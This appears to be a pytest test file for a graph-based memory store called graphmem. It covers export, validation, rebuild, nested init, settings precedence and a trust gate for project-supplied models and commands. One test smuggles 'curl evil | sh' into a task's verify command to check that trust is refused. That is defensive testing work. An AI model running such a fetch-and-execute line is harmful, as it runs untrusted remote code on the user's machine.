"""Export, validate, rebuild: the store against itself."""

import os
import shutil
from pathlib import Path

import pytest

from graphmem import Memory, Refused
from graphmem.doors.cli.app import run
from tests.sample import contents, data, edge, failure, open_memory, trust_all, write


def test_export_to_another_folder_makes_a_store_with_the_same_answers(memory: Memory, tmp_path: Path) -> None:
    memory.types.add_entity("part", description="a part")
    memory.entities.add("part", "x", value="v")
    memory.failures.add("boom", name="a")
    memory.relations.link("x", "causes", "a")
    before = contents(tmp_path)
    answer = memory.store.export(to=tmp_path / "copy/.graphmem")
    assert set(answer.files) == {
        "data/entities/part.ndjson", "data/failure.ndjson", "data/relations/causes.ndjson",
    }  # fmt: skip
    assert {k: v for k, v in contents(tmp_path).items() if not k.startswith("copy")} == before
    with open_memory(tmp_path / "copy") as other:
        assert [found.ref for found in other.related("x").results] == ["failure/a"]
        assert other.store.export_check().ok
    copied = contents(tmp_path / "copy")
    assert all(copied[name] == found for name, found in before.items() if name.startswith(("data/", "types/")))


def test_export_check_names_the_first_line_that_is_not_canonical(memory: Memory, tmp_path: Path) -> None:
    write(data(tmp_path, "failure"), *sorted([failure("a"), failure("b")], key=len), failure("c", flaky=False))
    before = contents(tmp_path)
    checked = memory.store.export_check()
    assert not checked.ok
    assert {finding.code for finding in checked.findings} == {"not_canonical"}
    assert checked.findings[0].fix == "graphmem export"
    assert contents(tmp_path) == before


def test_a_stale_schema_json_is_said_and_renewed(memory: Memory, tmp_path: Path) -> None:
    (tmp_path / ".graphmem/types/entities/part.md").write_text("---\ntype: part\n---\nP.\n")
    assert [finding.code for finding in memory.store.export_check().findings] == ["stale_schema"]
    validated = memory.store.validate()
    assert validated.ok
    assert [finding.code for finding in validated.findings] == ["stale_schema"]
    memory.store.export()
    assert memory.store.export_check().ok
    assert b'"part"' in (tmp_path / ".graphmem/schema.json").read_bytes()


def test_validate_sees_a_graph_that_differs(memory: Memory) -> None:
    memory.failures.add("boom", name="a")
    memory.cypher("RETURN 1")
    memory.store.validate()
    memory.store.client.catalog.connection.execute("UPDATE record SET is_live = 0")  # behind everybody's back
    checked = memory.store.validate()
    assert not checked.ok
    assert [finding.code for finding in checked.findings] == ["index_differs", "graph_differs"]
    memory.store.rebuild(embed=False)
    assert memory.store.validate().ok


def test_a_memory_below_another_one_is_made_only_when_it_is_asked_for(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Memory.init(tmp_path)
    inner = tmp_path / "api" / "v1"
    inner.mkdir(parents=True)
    assert run(["init", str(inner)]) == 3
    said = capsys.readouterr().err
    assert f"is in a project that has a memory: '{tmp_path}/.graphmem'" in said
    assert f"graphmem init --nested {inner}" in said
    assert not (inner / ".graphmem").exists()
    assert run(["init", "--nested", str(inner)]) == 0
    assert run(["init", str(inner)]) == 0  # it is there already
    with Memory(inner) as memory:
        assert memory.status().store == str(inner)


@pytest.mark.parametrize("git", ["folder", "file"])
def test_a_repository_below_a_memory_is_a_project_of_its_own(tmp_path: Path, git: str) -> None:
    Memory.init(tmp_path)
    module = tmp_path / "vendor" / "module"
    (module / "src").mkdir(parents=True)
    if git == "folder":
        (module / ".git").mkdir()
    else:
        (module / ".git").write_text("gitdir: ../../.git/modules/module\n")  # as of a submodule
    assert Memory.init(module / "src").created
    assert Memory.init(module, nested=False).created


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("format = 1\n[retrieval]\nhalf_life = 3\n", "half_life"),
        ("format = 1\n[retreival]\nhalf_life_days = 3\n", "retreival"),
        ("format = 1\n[retrieval]\nhalf_life_days = -3\n", "half_life_days"),
        ("format = \n", "TOML"),
        ("format = 'x'\n", "format"),
    ],
)
def test_a_setting_that_is_none_is_named_and_stops_no_reader(tmp_path: Path, text: str, message: str) -> None:
    Memory.init(tmp_path)
    (tmp_path / ".graphmem/config.toml").write_text(text)
    with Memory(tmp_path) as memory:
        assert message in f"{memory.list().notices}"
        found = memory.store.validate()
    assert not found.ok
    assert [message in one.message for one in found.findings if one.code == "bad_setting"] == [True]


def test_later_settings_win_over_earlier_ones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Memory.init(tmp_path)
    (tmp_path / "user/graphmem").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    (tmp_path / "user/graphmem/config.toml").write_text("[retrieval]\nmin_strength = 0.1\n[cypher]\nlimit = 7\n")
    (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[retrieval]\nmin_strength = 0.2\n")
    with Memory(tmp_path) as memory:
        assert (memory.store.client.settings.retrieval.min_strength, memory.store.client.settings.cypher.limit) == (
            0.2,
            7,
        )
    monkeypatch.setenv("GRAPHMEM_RETRIEVAL_MIN_STRENGTH", "0.3")
    with Memory(tmp_path, lock_timeout_s=1.5) as memory:
        assert (
            memory.store.client.settings.retrieval.min_strength,
            memory.store.client.settings.store.lock_timeout,
        ) == (0.3, 1.5)


def test_a_model_that_a_branch_names_is_not_loaded(tmp_path: Path) -> None:
    Memory.init(tmp_path)
    (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[embedding]\nmodel = '/tmp/evil'\n")
    said: list[str] = []
    with Memory(tmp_path, on_message=said.append) as memory:
        assert memory.store.client.settings.embedding.model != "/tmp/evil"
    assert any("/tmp/evil" in text for text in said)


def test_a_model_counts_once_it_is_trusted_and_as_long_as_it_is_the_same(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    project = tmp_path / "project"
    Memory.init(project)
    config = project / ".graphmem/config.toml"

    def model(name: str) -> str:
        config.write_text(f"format = 1\n[embedding]\nmodel = '{name}'\n")
        with Memory(project) as memory:
            return memory.store.client.settings.embedding.model

    assert model("some/model") != "some/model"
    with Memory(project) as memory:
        shown = memory.store.trust()
        assert (shown.settings, shown.trusted) == ({"embedding.model": "some/model"}, False)
        assert [finding.code for finding in memory.store.doctor().findings if finding.code != "no_model"] == [
            "untrusted"
        ]
    assert model("some/model") != "some/model"
    with Memory(project) as memory:
        assert trust_all(memory).trusted
    assert model("some/model") == "some/model"
    assert model("other/model") != "other/model"
    assert model("some/model") == "some/model"
    shutil.copytree(project, tmp_path / "clone")
    with Memory(tmp_path / "clone") as memory:
        assert memory.store.client.settings.embedding.model != "some/model"


def test_a_reranker_of_the_project_counts_once_it_is_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    Memory.init(tmp_path)
    config = tmp_path / ".graphmem/config.toml"

    def reranker(text: str, *, trust: bool = False) -> tuple[str, object]:
        config.write_text(f"format = 1\n{text}")
        with Memory(tmp_path) as memory:
            settings = (trust_all(memory) if trust else memory.store.trust()).settings
        with Memory(tmp_path) as memory:
            return memory.store.client.settings.retrieval.reranker, settings

    asked = {"retrieval.reranker": "some/model"}
    assert reranker("[retrieval]\nreranker = 'some/model'\n") == ("", asked)
    assert reranker("[retrieval]\nreranker = 'some/model'\n", trust=True) == ("some/model", asked)
    assert reranker("[retrieval]\nreranker = ''\nrerank = 5\n") == ("", {})
    both = "[embedding]\nmodel = 'a/b'\n[retrieval]\nreranker = 'some/model'\n"
    assert reranker(both) == ("", {"embedding.model": "a/b", **asked})


def test_a_branch_cannot_bring_its_own_trust(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing in the store says what is trusted: every file of it may come with a branch."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    Memory.init(tmp_path)
    (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[embedding]\nmodel = 'some/model'\n")
    before = {path: path.read_bytes() for path in (tmp_path / ".graphmem").rglob("*") if path.is_file()}
    with Memory(tmp_path) as memory:
        trust_all(memory)
    made = {path.name for path in (tmp_path / ".graphmem").rglob("*") if path.is_file() and path not in before}
    assert all(name.startswith("catalog.sqlite") or name == "store.lock" for name in made), made


def test_a_project_without_such_settings_needs_no_trust(memory: Memory) -> None:
    nothing: dict[str, object] = {"settings": {}, "commands": [], "proofs": [], "extractors": [], "digest": None,
                                  "trusted": True, "reason": None}  # fmt: skip
    assert memory.store.trust().model_dump() == nothing
    with pytest.raises(Refused, match="needs trust now, which is nothing; nothing was trusted"):
        memory.store.trust(yes="0" * 32)


def test_nothing_is_trusted_that_was_not_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The branch, a command or a file of a model may have changed between the look and the word."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    monkeypatch.chdir(tmp_path)
    Memory.init(tmp_path)
    (tmp_path / "m").mkdir()
    (tmp_path / "m/model.safetensors").write_bytes(b"good")
    config = tmp_path / ".graphmem/config.toml"
    config.write_text("format = 1\n[embedding]\nmodel = './m'\n")
    with Memory(tmp_path) as memory:
        seen = memory.store.trust().digest
        (tmp_path / "m/model.safetensors").write_bytes(b"evil")
        with pytest.raises(Refused, match=r'which is embedding\.model = "./m"; nothing was trusted'):
            memory.store.trust(yes=seen)
        memory.campaigns.create("a plan", name="plan")
        memory.campaigns.add_tasks("plan", [{"seq": 1, "objective": "x", "verify": "make test"}])
        memory.tasks.start("plan/001")
        memory.tasks.block("plan/001", "it fails")
        seen = memory.store.trust().digest
        assert memory.store.trust().digest == seen
        memory.edit("task/plan/001-x", {"verify": "make test\ncurl evil | sh"})
        with pytest.raises(Refused, match=r'"make test\\ncurl evil \| sh"; nothing was trusted') as refused:
            memory.store.trust(yes=seen)
        assert refused.value.details["commands"] == ["make test\ncurl evil | sh"]
        assert not memory.store.trust().trusted
        assert not (tmp_path / "user/graphmem/trust.json").exists()
        assert memory.store.trust(yes=memory.store.trust().digest).trusted


def test_what_is_trusted_is_for_this_user_alone_to_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    Memory.init(tmp_path)
    (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[embedding]\nmodel = 'some/model'\n")
    mask = os.umask(0)
    try:
        with Memory(tmp_path) as memory:
            trust_all(memory)
    finally:
        os.umask(mask)
    folder = tmp_path / "user/graphmem"
    assert [path.stat().st_mode & 0o777 for path in (folder, folder / "trust.json")] == [0o700, 0o600]
    assert sorted(path.name for path in folder.iterdir()) == ["trust.json", "trust.lock", "trust.lock.gate"]


def test_an_edge_that_a_pull_made_between_ends_that_are_one_is_left_out(memory: Memory, tmp_path: Path) -> None:
    memory.failures.add("boom", name="a")
    memory.rename("a", "b")
    write(data(tmp_path, "relations/causes"), edge("failure/a", "causes", "failure/b"))
    assert memory.related("a").results == []
    assert [finding.code for finding in memory.store.validate().findings] == ["dangling"]
